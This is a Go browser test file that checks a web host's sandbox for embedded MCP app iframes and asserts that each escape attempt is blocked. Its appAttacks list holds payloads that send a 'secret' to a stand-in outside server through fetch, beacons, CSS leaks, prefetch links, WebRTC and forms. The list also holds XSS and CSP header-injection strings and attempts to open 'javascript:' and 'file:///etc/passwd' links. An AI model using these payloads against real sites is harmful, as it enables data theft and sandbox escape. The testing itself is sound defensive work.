//go:build peers

package web

import (
	"cmp"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"

	"github.com/chromedp/chromedp/kb"

	"mcpc/internal/tests/chromium"
)

// An outside is what an app must not reach: a web server and a UDP socket of someone else.
type outside struct {
	url, host string
	udp       string

	mu  sync.Mutex
	saw []string
}

// note records that something of the outside was reached.
func (o *outside) note(what string) {
	o.mu.Lock()
	defer o.mu.Unlock()
	o.saw = append(o.saw, what)
}

// reached returns what was reached until now.
func (o *outside) reached() string {
	o.mu.Lock()
	defer o.mu.Unlock()
	return strings.Join(o.saw, "; ")
}

// newOutside starts an outside.
func newOutside(t *testing.T) *outside {
	t.Helper()
	o := &outside{}
	s := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		o.note(r.Method + " " + r.URL.String())
		w.Header().Set("Access-Control-Allow-Origin", "*")
	}))
	s.Config.ConnState = func(c net.Conn, state http.ConnState) {
		if state == http.StateNew {
			o.note("a connection")
		}
	}
	s.Start()
	t.Cleanup(s.Close)
	o.url = s.URL
	o.host = strings.TrimPrefix(s.URL, "http://")
	socket, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { socket.Close() })
	o.udp = socket.LocalAddr().String()
	go func() {
		var room [2000]byte
		for {
			if _, _, err := socket.ReadFrom(room[:]); err != nil {
				return
			}
			o.note("a datagram")
		}
	}()
	return o
}

// appSite opens a page that can show apps.
func appSite(t *testing.T, b *chromium.Browser, a *fakeActor) (*chromium.Page, *site) {
	t.Helper()
	sandbox, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	s := start(t, Options{Reader: newDummy(), Actor: a, Assets: assets(), Sandbox: sandbox})
	p := b.Tab(t)
	p.Load(s.URL())
	p.Await(`document.querySelector('#filter')`)
	p.Await(`!location.hash.includes('t=')`)
	// The messages of frames, as the page gets them.
	p.Eval(`void (window.got = [], addEventListener('message', e => got.push(e.data && e.data.text ? JSON.parse(e.data.text) : e.data)))`, nil)
	return p, s
}

// showApp shows the app of the actor on the page.
func showApp(p *chromium.Page) {
	p.Eval(`import('/act.js').then(act => act.post('app', { target: 't', tool: 'show' })).then(app => Promise.all([import('/lib.js'), import('/app.js')]).then(([lib, { AppPanel }]) => lib.set({ app: { ...app, Panel: AppPanel, call: { target: 't', tool: 'show' }, input: { a: 1 }, result: { content: [{ type: 'text', text: 'the result' }] }, at: 1 } })))`, nil)
	p.Await(`document.querySelector('.app-box iframe')`)
}

// appPrelude has functions for the documents of apps: report sends a text to the page, ask sends a request and returns its
// response, attempt reports what becomes of a function.
const appPrelude = `<!doctype html><meta charset="utf-8"><body><script>
const report = text => parent.postMessage({ jsonrpc: '2.0', method: 'notifications/message', params: { data: String(text) } }, '*');
let asked = 0;
const ask = (method, params = {}) => new Promise(done => {
  const id = ++asked;
  addEventListener('message', e => e.source === parent && e.data.id === id && ('result' in e.data || 'error' in e.data) && done(e.data));
  parent.postMessage({ jsonrpc: '2.0', id, method, params }, '*');
});
const begin = async () => {
  const r = await ask('ui/initialize', { appInfo: { name: 'a', version: '1' }, appCapabilities: {}, protocolVersion: '2026-01-26' });
  parent.postMessage({ jsonrpc: '2.0', method: 'ui/notifications/initialized' }, '*');
  return r;
};
const attempt = async f => { try { report('got ' + await f()); } catch (e) { report('refused ' + e.name); } };
</script>`

// TestPeerAppTalks shows an app and follows its messages.
func TestPeerAppTalks(t *testing.T) {
	a := &fakeActor{powers: allPowers}
	a.app = appWith(appPrelude+`<script>
		addEventListener('message', e => { if ((e.data.method || '').startsWith('ui/')) report(e.data.method + ' ' + JSON.stringify(e.data.params)); });
		begin().then(async r => {
			report('theme ' + r.result.hostContext.theme);
			report('call ' + JSON.stringify((await ask('tools/call', { name: 'x', arguments: {} })).result));
			report('other ' + (await ask('nonsense')).error.code);
			parent.postMessage({ jsonrpc: '2.0', method: 'ui/notifications/size-changed', params: { width: 1e9, height: 1e9 } }, '*');
		})</script>`, `{"csp":{"connectDomains":["https://api.example"]},"permissions":{"camera":{}}}`)
	p, _ := appSite(t, chromium.Share(t), a)
	showApp(p)
	for _, text := range []string{
		"theme light", `call {"content":[]}`, "other -32601", `ui/notifications/tool-input {"arguments":{"a":1}}`,
		`ui/notifications/tool-result {"content":[{"type":"text","text":"the result"}]}`,
	} {
		p.Await(`got.some(m => m && m.params && m.params.data === ` + string(quoted(text)) + `)`)
	}
	p.Await(`document.querySelector('.app-panel').innerText.includes('May reach https://api.example. Asks for camera.')`)
	p.Await(`document.querySelector('.app-box iframe').style.height === '4000px'`)
	p.Await(`document.querySelectorAll('.app-message').length >= 10`)
	p.Eval(`[...document.querySelectorAll('.app-panel button')].find(b => b.textContent === 'Dark').click()`, nil)
	p.Await(`got.some(m => m && m.params && String(m.params.data).startsWith('ui/notifications/host-context-changed {"theme":"dark"'))`)
	p.Eval(`document.getElementById('close-app').click()`, nil)
	p.Await(`!document.querySelector('.app-panel')`)
	p.Await(`got.some(m => m && m.params && String(m.params.data).startsWith('ui/resource-teardown'))`)
}

// TestPeerAppIsAccessible looks for what keeps people out of an app's panel, in both themes and on a phone.
func TestPeerAppIsAccessible(t *testing.T) {
	a := &fakeActor{powers: allPowers}
	a.app = appWith(appPrelude+`<script>begin()</script>`, `{"csp":{"connectDomains":["https://api.example"]}}`)
	p, _ := appSite(t, chromium.Share(t), a)
	look := accessFaults(t, p)
	showApp(p)
	p.Await(`document.querySelectorAll('.app-message').length >= 4`)
	p.Eval(`document.querySelector('.app-message').click()`, nil)
	p.Await(`document.querySelector('.app-messages pre')`)
	look("an app")
	p.SetColorScheme("dark")
	p.SetSize(390, 800, 1)
	p.Await(settled)
	look("an app on a dark phone")
	p.Type(kb.Escape)
	p.Await(`!document.querySelector('.app-panel')`)
}

// within waits until an expression is true on the page.
func within(t *testing.T, p *chromium.Page, expression string) {
	t.Helper()
	var holds bool
	p.Eval(`new Promise(done => { const end = performance.now() + 30000, look = () => { const holds = !!(`+expression+`); holds || performance.now() > end ? done(holds) : setTimeout(look, 30) }; look() })`, &holds)
	if !holds {
		t.Errorf("%s did not come true; got %.900s", expression, p.Text(`JSON.stringify(got.map(m => m && m.params && m.params.data || m))`))
	}
}

// TestPeerAppAttacks has apps that try to leave their frame. Each must be held, and the page stay as it is.
func TestPeerAppAttacks(t *testing.T) {
	o := newOutside(t)
	b := chromium.Share(t)
	for _, attack := range appAttacks(o) {
		t.Run(attack.name, func(t *testing.T) {
			a := &fakeActor{powers: allPowers}
			document := attack.document
			if !attack.bare {
				document = appPrelude + document
			}
			a.app = appWith(document, cmp.Or(attack.declared, "{}"))
			p, _ := appSite(t, b, a)
			p.Await(`document.title.startsWith('plain words')`)
			before := p.Text(`location.href + document.title + JSON.stringify(Object.keys(sessionStorage))`)
			showApp(p)
			for _, text := range attack.reports {
				within(t, p, `got.some(m => m && m.params && String(m.params.data).startsWith(`+string(quoted(text))+`))`)
			}
			if attack.holds != "" {
				within(t, p, attack.holds)
			}
			p.Eval(`new Promise(done => setTimeout(done, 300))`, nil) // for what would come late
			if after := p.Text(`location.href + document.title + JSON.stringify(Object.keys(sessionStorage))`); after != before {
				t.Errorf("the page is %s, and was %s", after, before)
			}
			if saw := o.reached(); saw != "" {
				t.Errorf("the outside was reached: %s", saw)
				o.mu.Lock()
				o.saw = nil
				o.mu.Unlock()
			}
			for _, deed := range a.deeds() {
				if !strings.HasPrefix(deed, `["app"`) && deed != attack.deed {
					t.Errorf("the actor did %s", deed)
				}
			}
		})
	}
}

// An appAttack is the document of an app that tries something.
type appAttack struct {
	name, document, declared string
	bare                     bool     // without the prelude
	reports                  []string // what the app reports begins with these texts
	holds                    string   // an expression that becomes true on the page
	deed                     string   // what the actor may do
}

// appAttacks returns the attacks. OUT in a script is the URL of the outside, and UDP its socket.
func appAttacks(o *outside) []appAttack {
	fill := strings.NewReplacer("OUT", o.url, "UDP", o.udp)
	script := func(text string) string { return fill.Replace("<script>" + text + "</script>") }
	later := script(`setTimeout(() => report('done'), 400)`)
	const notDrawn = `document.querySelector('.app-box iframe')`
	return []appAttack{
		{name: "fetch", document: script(`attempt(() => fetch('OUT/fetch'))`), reports: []string{"refused TypeError"}},
		{name: "fetch beside a declared address", document: script(`attempt(() => fetch('OUT/fetch'))`), declared: `{"csp":{"connectDomains":["https://api.example"]}}`, reports: []string{"refused TypeError"}},
		{name: "beacon", document: script(`navigator.sendBeacon('OUT/beacon', 'secret'); report('done')`), reports: []string{"done"}},
		{name: "web socket", document: script(`const s = new WebSocket('OUT'.replace('http', 'ws')); s.onerror = () => report('refused')`), reports: []string{"refused"}},
		{name: "event source", document: script(`new EventSource('OUT/events').onerror = () => report('refused')`), reports: []string{"refused"}},
		{name: "image", document: script(`const i = new Image(); i.onerror = () => report('refused'); i.src = 'OUT/i?secret'`), reports: []string{"refused"}},
		{name: "foreign script", document: script(`const x = document.createElement('script'); x.onerror = () => report('refused'); x.src = 'OUT/x.js'; document.body.append(x)`), reports: []string{"refused"}},
		{name: "style sheet that tells", document: fill.Replace(`<style>@import url(OUT/import); @font-face { font-family: f; src: url(OUT/font) } input[value^=s] { background: url(OUT/css) } body { font-family: f }</style><input value=secret>`) + later, reports: []string{"done"}},
		{name: "connections in advance", document: fill.Replace(`<link rel=preconnect href=OUT><link rel=dns-prefetch href=OUT><link rel=prefetch href=OUT/p><link rel=preload as=image href=OUT/p2><link rel=modulepreload href=OUT/p3><script type=speculationrules>{"prefetch":[{"urls":["OUT/s"]}],"prerender":[{"urls":["OUT/s"]}]}</script><a href=OUT/a ping=OUT/ping>x</a>`) + later, reports: []string{"done"}},
		{name: "WebRTC", document: script(`(async () => { try { const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:UDP' }] }); c.createDataChannel('x'); await c.setLocalDescription(await c.createOffer()); } catch {} setTimeout(() => report('done'), 1000); })()`), reports: []string{"done"}},
		{name: "WebRTC beside a declared address", declared: `{"csp":{"connectDomains":["https://api.example"]}}`, document: script(`(async () => { try { const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:UDP' }] }); c.createDataChannel('x'); await c.setLocalDescription(await c.createOffer()); } catch {} setTimeout(() => report('done'), 1000); })()`), reports: []string{"done"}},
		{name: "navigation of itself", document: script(`location = 'OUT/nav?secret'`)},
		{name: "meta refresh", document: fill.Replace(`<meta http-equiv=refresh content="0;url=OUT/meta">`)},
		{name: "form", document: fill.Replace(`<form action=OUT/form><input name=a value=secret></form>`) + script(`document.querySelector('form').addEventListener('submit', () => report('event')); document.querySelector('form').requestSubmit()`), reports: []string{"event"}},
		{name: "base", document: fill.Replace(`<base href=OUT/>`) + script(`attempt(() => fetch('relative'))`), reports: []string{"refused TypeError"}},
		{name: "frames", document: fill.Replace(`<iframe src=OUT/frame></iframe><iframe src="data:text/html,<script>top.postMessage('x','*')</script>"></iframe><object data=OUT/object></object><embed src=OUT/embed>`) + script(`const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob(['<script>parent.postMessage(1)<\/script>'], { type: 'text/html' })); document.body.append(f); setTimeout(() => report('done'), 400)`), reports: []string{"done"}},
		{name: "frame without an address", document: script(`const f = document.createElement('iframe'); f.srcdoc = '<script>fetch("OUT/srcdoc"); new Image().src = "OUT/srcdoc"; top.postMessage({ text: "{}" }, "*")<\/script>'; document.body.append(f); setTimeout(() => report('done'), 400)`), reports: []string{"done"}},
		{name: "top navigation", document: script(`attempt(() => { top.location = 'OUT/top' })`), reports: []string{"refused SecurityError"}},
		{name: "link to the top", document: fill.Replace(`<a id=a target=_top href=OUT/top>x</a><a id=b target=_parent href=OUT/parent>x</a>`) + script(`a.click(); b.click(); report('done')`), reports: []string{"done"}},
		{name: "navigation of the outer frame", document: script(`attempt(() => { parent.location = 'OUT/parent' })`), reports: []string{"refused SecurityError"}},
		{name: "popup", document: script(`report('got ' + open('OUT/popup')); const l = document.createElement('a'); l.href = 'OUT/blank'; l.target = '_blank'; l.click()`), reports: []string{"got null"}},
		{name: "history", document: script(`history.back(); history.go(-2); navigation.back?.(); report('done')`), reports: []string{"done"}},
		{name: "the page's document", document: script(`attempt(() => top.document.title); attempt(() => top.sessionStorage.length); attempt(() => parent.document.title); attempt(() => parent.frames[1].document)`), reports: []string{"refused SecurityError"}},
		{name: "storage and cookies", document: script(`attempt(() => localStorage.a); attempt(() => sessionStorage.a); attempt(() => document.cookie); attempt(() => caches.keys()); attempt(() => new Promise((y, n) => { indexedDB.open('x').onsuccess = y })); `), reports: []string{"refused SecurityError"}, holds: `got.filter(m => m.params && String(m.params.data).startsWith('refused')).length === 5`},
		{name: "service worker", document: script(`attempt(() => navigator.serviceWorker.register('/frame.js'))`), reports: []string{"refused"}},
		{name: "dialogs and print", document: script(`alert(1); report('confirm ' + confirm(1)); report('prompt ' + prompt(1)); print(); report('done')`), reports: []string{"confirm false", "prompt null", "done"}},
		{name: "download", document: fill.Replace(`<a id=d download=x.exe href="data:application/octet-stream,x">x</a><a id=e download href=OUT/x.exe>x</a>`) + script(`d.click(); e.click(); report('done')`), reports: []string{"done"}},
		{name: "pointer lock and full screen", document: script(`document.addEventListener('pointerlockerror', () => report('lock refused')); document.body.requestPointerLock().catch(e => report('refused ' + e.name)); document.body.requestFullscreen().catch(e => report('full ' + e.name))`), reports: []string{"full TypeError"}, holds: `!document.fullscreenElement && !document.pointerLockElement`},
		{name: "camera and place", document: script(`navigator.geolocation.getCurrentPosition(() => report('got'), e => report('refused place')); attempt(() => navigator.mediaDevices ? navigator.mediaDevices.getUserMedia({ video: true }) : Promise.reject(new TypeError()))`), reports: []string{"refused place", "refused"}},
		{name: "messages past the frame", document: script(`top.postMessage({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'x' } }, '*'); top.postMessage({ text: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'ui/initialize', params: {} }) }, '*'); report('done')`), reports: []string{"done"}, holds: `document.querySelectorAll('.app-message').length === 1`},
		{name: "requests before the handshake", document: script(`ask('tools/call', { name: 'x' }).then(r => report('code ' + r.error.code))`), reports: []string{"code -32600"}},
		{name: "requests that no page may send", document: script(`begin().then(async () => { for (const m of ['tools/list', 'sampling/createMessage', 'logging/setLevel', 'completion/complete', 'ui/download-file', '__proto__', 'constructor']) report(m + ' ' + (await ask(m)).error.code); report('done') })`), reports: []string{"tools/list -32601", "sampling/createMessage -32601", "ui/download-file -32601", "constructor -32601", "done"}},
		{name: "responses that nobody asked for", document: script(`for (const id of [1, '1', 'mcpc-1', null, {}]) parent.postMessage({ jsonrpc: '2.0', id, result: { content: [] } }, '*'); parent.postMessage([1], '*'); parent.postMessage(null, '*'); parent.postMessage({ jsonrpc: '2.0', id: { a: 1 }, method: 'tools/call' }, '*'); report('done')`), reports: []string{"done"}},
		{name: "address to open", document: script(`begin().then(async () => { report('1 ' + JSON.stringify((await ask('ui/open-link', { url: 'javascript:alert(1)' })).result)); report('2 ' + JSON.stringify((await ask('ui/open-link', { url: 'file:///etc/passwd' })).result)); ask('ui/open-link', { url: 'OUT/link?\u202egpj' }); })`), reports: []string{`1 {"isError":true}`, `2 {"isError":true}`}, holds: `document.querySelector('dialog[aria-label="Open the address?"]')`},
		{name: "questions without end", document: script(`begin().then(async () => { const all = await Promise.all(Array.from({ length: 7 }, () => Promise.race([ask('ui/open-link', { url: 'OUT/x' }), new Promise(r => setTimeout(r, 800, 'asks'))]))); report('asks ' + all.filter(r => r === 'asks').length) })`), reports: []string{"asks 1"}},
		{name: "flood", document: script(`for (let i = 0; i < 20000; i++) parent.postMessage({ jsonrpc: '2.0', method: 'x', params: { i } }, '*')`), holds: `document.querySelector('.app-panel').innerText.includes('dropped: too many or too large') && got.length < 1500`},
		{name: "large message", document: script(`parent.postMessage({ jsonrpc: '2.0', method: 'x', params: { a: 'x'.repeat(3e7) } }, '*'); parent.postMessage({ a: 1n }, '*')`), holds: `document.querySelector('.app-panel').innerText.includes('2 messages dropped')`},
		{name: "large size", document: script(`for (const n of [1e9, Infinity, NaN, -5, '1e9', 1e308]) parent.postMessage({ jsonrpc: '2.0', method: 'ui/notifications/size-changed', params: { width: n, height: n } }, '*'); report('done')`), reports: []string{"done"}, holds: `parseInt(document.querySelector('.app-box iframe').style.height) <= 4000`},
		{name: "endless loop", bare: true, document: `<!doctype html><script>for (;;);</script>`, holds: `document.querySelector('.app-panel').innerText.includes('It has not sent ui/initialize')`},
		{name: "hostile texts", document: script(`parent.postMessage({ jsonrpc: '2.0', method: '<img src=x onerror=hacked=1>\u202e', params: {} }, '*'); report('done')`), reports: []string{"done"}, holds: `!window.hacked && document.querySelector('.app-messages').innerText.includes('‹U+202E›')`},
		{name: "document that ends the policy", bare: true, declared: `{"csp":{"connectDomains":["https://a.example; connect-src *","*;"],"resourceDomains":["x\r\nSet-Cookie: a=b"]},"permissions":{"camera *; geolocation":{}}}`, document: appPrelude + script(`attempt(() => fetch('OUT/fetch'))`), reports: []string{"refused TypeError"}},
		{name: "second document", document: script(`const first = location.href; parent.postMessage({ jsonrpc: '2.0', method: 'first' }, '*'); location.reload(); setTimeout(() => { location = first }, 100)`), holds: notDrawn},
	}
}
